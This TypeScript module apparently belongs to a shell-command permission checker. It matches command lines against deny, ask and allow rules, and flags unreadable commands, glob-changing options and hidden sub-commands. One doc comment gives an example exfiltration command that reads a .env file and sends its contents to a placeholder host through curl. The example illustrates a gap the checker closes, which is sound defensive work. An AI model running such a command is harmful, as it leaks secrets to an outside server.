import { defaultOrigin } from "../../codes/origin.ts";
import type { CompiledRule } from "../compile-rules.ts";
import { steersShell } from "../loader-variables.ts";
import type { PathWorld } from "../paths.ts";
import type { RuleTable, RuleTables } from "../rule-table.ts";
import { type CommandLine, type InnerCommands, PROCESS_FILE, type ShellCommand, UNKNOWN_TEXT } from "./command-line.ts";
import { mayMean, meansCommand } from "./command-pattern.ts";
import { coverCommand, reachOf } from "./cover-command.ts";
import { asking, byRule, type Finding, showCommand } from "./finding.ts";
import { addressJudge } from "./judge-addresses.ts";
import { type Folders, fileJudge, foldersFor, withoutCovered } from "./judge-files.ts";
import { repositoryJudge } from "./judge-repositories.ts";
import { countNames } from "./names-in.ts";
import { readCommandOptions } from "./read-options.ts";
import { takesScript } from "./script-input.ts";

/** Every finding about a command line; the strictest one counts (contract 1). */
export function judgeShell(line: CommandLine, rules: RuleTables, world: PathWorld): readonly Finding[] {
  const whole = flatten(line.commands, () => true);
  const run = new Set(flatten(line.commands, ({ guessed }) => !guessed));
  const folders = foldersFor(whole, world, line.repeats);
  const isUnreadable = line.problems.some(({ kind }) => kind === "unreadable");
  const all = affordable(whole, rules, folders, isUnreadable ? FEW_STEPS : MAX_STEPS);
  const spelled = new Map<ShellCommand, number>();
  if (all.length === whole.length) for (const command of line.commands) spellOut(command, 0, rules.allow, spelled);
  // For commands that may not run at all, only findings by a rule count.
  const heeded = (command: ShellCommand, findings: readonly Finding[]): readonly Finding[] =>
    run.has(command) ? findings : findings.filter(({ rule }) => rule !== null);
  const judgeUrls = addressJudge(rules);
  const judgeFiles = fileJudge(rules, world);
  const judgeRepositories = repositoryJudge(rules, world);
  const strict = [
    ...judgeWhole(line, rules),
    ...all.flatMap((command) => judgeStrictly(command, rules)),
    ...all.flatMap((command) => heeded(command, judgeUrls(command))),
    ...all.flatMap((command, at) => {
      const here = folders[at];
      if (here === undefined) return [];
      const findings = [...judgeFiles(command, here, spelled.get(command)), ...judgeRepositories(command, here)];
      return heeded(command, findings);
    }),
  ];
  const problems = line.problems.map(({ kind, text }): Finding => {
    // If no rule names commands, what else it may run is just one more uncovered command.
    const isOpen = kind === "expansion" && !hasCommandRules(rules);
    const code = isOpen ? "permission.inner-command" : "permission.unreadable";
    const finding = asking("", code, `the command line cannot be judged: ${text}`);
    return kind === "unreadable" ? { ...finding, decision: "deny" } : finding;
  });
  const isRead = line.problems.every(({ kind }) => kind === "expansion");
  const hidden = [...judgeNames(run, rules), ...judgePatterns(run, withoutCovered(rules, world))];
  problems.push(...hidden);
  if (all.length < whole.length)
    return [...strict, ...problems, asking("", "permission.unreadable", "the line would take too long to judge")];
  if (all.length === 0 && problems.length === 0) return [...strict, nothingRuns];
  const exact = findExact(line, rules.allow);
  const byStrictRules = strict.filter(({ rule }) => rule !== null);
  if (exact !== undefined && isRead && hidden.length === 0 && [...run].every(hasPlainName))
    return [...byStrictRules, ...judgeMissed(rules, world), byRule(line.text.trim(), "allow", exact)];
  return [
    ...strict,
    ...judgeMissed(rules, world),
    ...problems,
    ...judgeLoops(line),
    ...line.commands.map((command) => judgeCover(command, rules.allow, world)),
  ];
}

/** Words times rules, in all places that a word may mean: more would take too long. */
const MAX_STEPS = 420_000;
/** An unreadable line is denied anyway; these steps only find the rule to name. */
const FEW_STEPS = 40_000;

/** The commands that can be matched against every rule within the limit. */
function affordable(
  commands: readonly ShellCommand[],
  rules: RuleTables,
  folders: readonly Folders[],
  most: number,
): readonly ShellCommand[] {
  const near = { known: countNear(rules, "known"), any: countNear(rules, "any") };
  let steps = 0;
  const end = commands.findIndex(({ words, redirections }, at) => {
    const texts = [...words, ...redirections.map(({ target }) => target)];
    const size = texts.reduce((sum, { text }) => sum + countNames(text) + text.length / 16, 1);
    const { files, patterns, others } = near[texts.some(({ hasGlob }) => hasGlob) ? "any" : "known"];
    steps += size * (4 + others + 12 * patterns + (5 + 3 * files) * (folders[at]?.known.length ?? 1));
    return steps > most;
  });
  return end === -1 ? commands : commands.slice(0, end);
}

function countNear({ deny, ask, allow }: RuleTables, files: "known" | "any") {
  const [one, other, third] = [deny, ask, allow].map((table) => table.counts(files));
  const sum = (kind: "files" | "patterns" | "others"): number =>
    (one?.[kind] ?? 0) + (other?.[kind] ?? 0) + (third?.[kind] ?? 0);
  return { files: sum("files"), patterns: sum("patterns"), others: sum("others") };
}

/** Shell options that change which files a pattern matches. */
const GLOBBING: ReadonlySet<string> = new Set(["dotglob", "extglob", "nocaseglob", "globstar"]);

const nothingRuns: Finding = {
  part: "",
  decision: "allow",
  code: "permission.nothing-runs",
  text: "nothing runs",
  rule: null,
  origin: defaultOrigin,
};

/** The commands and their inner ones that are `wanted`, in reading order. */
function flatten(
  commands: readonly ShellCommand[],
  wanted: (inner: InnerCommands) => boolean,
  found: ShellCommand[] = [],
): readonly ShellCommand[] {
  for (const command of commands) {
    found.push(command);
    for (const inner of command.inner) if (wanted(inner)) flatten(inner.commands, wanted, found);
  }
  return found;
}

/** The command and everything it runs, each with the number of its words that an allow rule spells out. */
function spellOut(command: ShellCommand, outer: number, allows: RuleTable, found: Map<ShellCommand, number>): void {
  const own = allows
    .about({ words: command.words })
    .map((rule) => (rule.family === "shell" ? reachOf(rule, command.words) : null));
  const reach = own.includes("all") ? Number.POSITIVE_INFINITY : Math.max(outer, ...own.map((one) => Number(one ?? 0)));
  found.set(command, reach);
  for (const { at, commands } of command.inner)
    for (const inner of commands) spellOut(inner, at === null ? 0 : Math.max(0, reach - at), allows, found);
}

/** The sandbox guards what a program reads. If it cannot, only programs known to read nothing else go unasked. */
function judgeMissed({ allow }: RuleTables, { confinement }: PathWorld): readonly Finding[] {
  const isReading = ({ matcher }: CompiledRule): boolean =>
    matcher.kind === "command" && matcher.pattern.kind === "reading";
  const missed = confinement?.missed;
  if (missed === undefined || !allow.has("shell", (rule) => !isReading(rule))) return [];
  const text = `files that Read rules deny cannot all be hidden from commands: ${missed}`;
  return [asking("", "permission.file-not-covered", text)];
}

/** If rules name commands, an unreadable one may be any of them, in every mode and under every wrapper. */
function judgeNames(run: ReadonlySet<ShellCommand>, rules: RuleTables): readonly Finding[] {
  if (!hasCommandRules(rules)) return [];
  const all = [...run];
  const odd =
    all.find((command) => !hasPlainName(command)) ?? all.find(runsUnseen) ?? all.find((one) => hidesNamed(one, rules));
  if (odd === undefined) return [];
  const part = showCommand(odd);
  const why = !hasPlainName(odd)
    ? "only the shell knows the name of this one"
    : runsUnseen(odd)
      ? "it runs commands that nobody can read"
      : "only the shell knows which of its commands this is";
  return [asking(part, "permission.unreadable", `${JSON.stringify(part)}: rules name commands, and ${why}`)];
}

/** It may be a sub-command that a rule names, or an alias for one. */
function hidesNamed({ words }: ShellCommand, { deny, ask }: RuleTables): boolean {
  const named = words[0]?.text === "git" && words.some(({ text }) => text.startsWith("--config-env"));
  if (!named && !words.some(({ text }) => text === UNKNOWN_TEXT)) return false;
  return [deny, ask].some((table) =>
    table
      .about({ words })
      .some(
        ({ matcher }) =>
          matcher.kind === "command" &&
          (mayMean(matcher.pattern, words) ||
            (named &&
              "words" in matcher.pattern &&
              matcher.pattern.words[0] === "git" &&
              matcher.pattern.words.length > 1)),
      ),
  );
}

/** A shell or an interpreter that takes its script from outside the line. */
function runsUnseen(command: ShellCommand): boolean {
  const language = readCommandOptions(command.words).program?.language;
  if ((language !== "sh" && language !== "code") || !takesScript(command)) return false;
  const isSeen = command.inner.some(({ at, guessed }) => at === null && !guessed);
  return !isSeen && !command.redirections.some(({ effect }) => effect === "text");
}

/** If rules name files, a line that changes what shell patterns match hides which files these are. */
function judgePatterns(run: Iterable<ShellCommand>, { deny, ask }: RuleTables): readonly Finding[] {
  const namesFiles = ({ matcher }: CompiledRule): boolean => matcher.kind === "path";
  if (!(["read", "write"] as const).some((family) => deny.has(family, namesFiles) || ask.has(family, namesFiles)))
    return [];
  const odd = [...run].find(
    ({ words, assignments }) =>
      words.some(({ text }) => GLOBBING.has(text)) ||
      assignments.some(({ name }) => name === "GLOBIGNORE" || name === "BASHOPTS"),
  );
  if (odd === undefined) return [];
  const part = showCommand(odd);
  const text = `${JSON.stringify(part)}: rules name files, and it changes which files a pattern means`;
  return [asking(part, "permission.open-pattern", text)];
}

/** Whether a deny or ask rule is about some commands but not all. */
export function hasCommandRules({ deny, ask }: RuleTables): boolean {
  const namesSome = ({ matcher }: CompiledRule): boolean => matcher.kind !== "any";
  return deny.has("shell", namesSome) || ask.has("shell", namesSome);
}

/** Rules about every command, and patterns over the whole text. */
function judgeWhole({ text }: CommandLine, rules: RuleTables): readonly Finding[] {
  return (["deny", "ask"] as const).flatMap((decision) =>
    rules[decision].about({ words: [] }).flatMap((rule) => {
      if (rule.family !== "shell") return [];
      const { matcher } = rule;
      const hit = matcher.kind === "any" || (matcher.kind === "pattern" && matcher.pattern.matcher(text).find());
      return hit ? [byRule(text.trim(), decision, rule)] : [];
    }),
  );
}

function judgeStrictly(command: ShellCommand, rules: RuleTables): readonly Finding[] {
  let words: string | null = null;
  const isMeant = ({ family, matcher }: CompiledRule): boolean => {
    if (family !== "shell" || matcher.kind === "any") return false;
    if (matcher.kind === "pattern") {
      words ??= command.words.map(({ text }) => text).join(" ");
      return matcher.pattern.matcher(words).find();
    }
    return matcher.kind === "command" && meansCommand(matcher.pattern, command.words);
  };
  const denied = rules.deny.about({ words: command.words }).find(isMeant);
  if (denied !== undefined) return [byRule(showCommand(command), "deny", denied)];
  const asked = rules.ask.about({ words: command.words }).find(isMeant);
  return asked === undefined ? [] : [byRule(showCommand(command), "ask", asked)];
}

function judgeCover(command: ShellCommand, allows: RuleTable, world: PathWorld): Finding {
  const part = showCommand(command);
  const cover = coverCommand(command, allows, world);
  if (!cover.covered) return asking(part, cover.code, `${JSON.stringify(part)}: ${cover.text}`);
  return cover.rule === null ? { ...nothingRuns, part } : byRule(part, "allow", cover.rule);
}

/**
 * Passes output of other commands, through a pipe or as arguments, to a command that needs more than these rules: a
 * rule for `curl` does not cover files that are read for it, as in `curl "https://h/?x=$(cat .env)"`.
 */
export function takesFromOthers({ commands }: CommandLine, allows: RuleTable, world: PathWorld): boolean {
  const isCarried = commands.some((command) => takesInput(command) || (command.captured && !printsOwnText(command)));
  return commands.some(
    (command) => (command.piped || (isCarried && hasUnknown(command))) && !coverCommand(command, allows, world).covered,
  );
}

function hasUnknown({ words, assignments, redirections }: ShellCommand): boolean {
  const texts = [...words, ...assignments.map(({ value }) => value), ...redirections.map(({ target }) => target)];
  return texts.some(({ text }) => text.includes(UNKNOWN_TEXT) || text.includes(PROCESS_FILE));
}

/** Reads input into variables. */
function takesInput({ words }: ShellCommand): boolean {
  const name = words.find(({ text }) => !/^(?:command|builtin|-p|--)$/.test(text));
  return /^(?:read|mapfile|readarray)$/.test(name?.text ?? "");
}

/** It prints text from the line itself: `$(cat <<'EOF' …)`. */
function printsOwnText({ words, redirections, piped }: ShellCommand): boolean {
  const isStated = [...words, ...redirections.map(({ target }) => target)].every(({ isStatic }) => isStatic);
  const reads = redirections.some(({ effect }) => effect === "read") || (words.length > 1 && words[0]?.text === "cat");
  return !piped && isStated && !reads && /^(?:echo|printf|cat)$/.test(words[0]?.text ?? "");
}

/** A loop sets its variable like an assignment. */
function judgeLoops({ loopVariables }: CommandLine): readonly Finding[] {
  const odd = loopVariables.find((name) => steersShell(name));
  return odd === undefined
    ? []
    : [asking("", "permission.assignment", `a loop sets ${odd}, which can change what runs`)];
}

/** A rule identical to the whole line covers all of it (contract 5). */
function findExact({ text }: CommandLine, allows: RuleTable): CompiledRule | undefined {
  const line = text.trim();
  return allows
    .about({ line })
    .find(
      ({ matcher }) => matcher.kind === "command" && matcher.pattern.kind === "exact" && matcher.pattern.text === line,
    );
}

function hasPlainName({ words }: ShellCommand): boolean {
  return words[0] === undefined || words[0].isStatic;
}
